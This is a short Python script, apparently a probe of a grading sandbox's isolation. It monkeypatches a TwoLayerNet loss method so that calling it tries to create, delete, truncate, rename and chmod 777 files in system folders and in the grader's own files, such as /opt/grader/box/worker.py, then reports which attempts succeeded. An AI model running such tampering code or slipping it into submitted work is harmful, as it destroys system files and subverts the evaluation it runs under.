"""Opens, makes, removes and renames files all over what it can see."""
import os
import sys

import numpy as np

FOLDERS = ("/", "/usr", "/usr/bin", "/etc", "/opt", "/opt/grader", "/opt/grader/box", "/opt/grader/packages0", "/dev", "/proc", "/run", "@ROOT@", sys.prefix)
FILES = ("/usr/bin/env", "/opt/grader/box/worker.py", "/opt/grader/packages0/numpy/__init__.py", "/etc/ld.so.cache", sys.executable)


def attempt():
    done = []
    for folder in FOLDERS:
        for what in (lambda: open(folder + "/planted", "w"), lambda: os.mkdir(folder + "/planted"), lambda: os.symlink("/", folder + "/planted")):
            done += _worked(what, folder)
    for file in FILES:
        for what in (
            lambda: open(file, "ab"),
            lambda: os.unlink(file),
            lambda: os.rename(file, file + "~"),
            lambda: os.chmod(file, 0o777),
            lambda: os.utime(file, (0, 0)),
            lambda: os.truncate(file, 0),
        ):
            done += _worked(what, file)
    return f"changed {done}"


def _worked(what, place):
    try:
        what()
        return [place]
    except OSError:
        return []


#: beneath


def _telling(self, X, y=None, reg=0.0):
    found = attempt()
    print("tried:", found)
    raise RuntimeError(found)


TwoLayerNet.loss = _telling
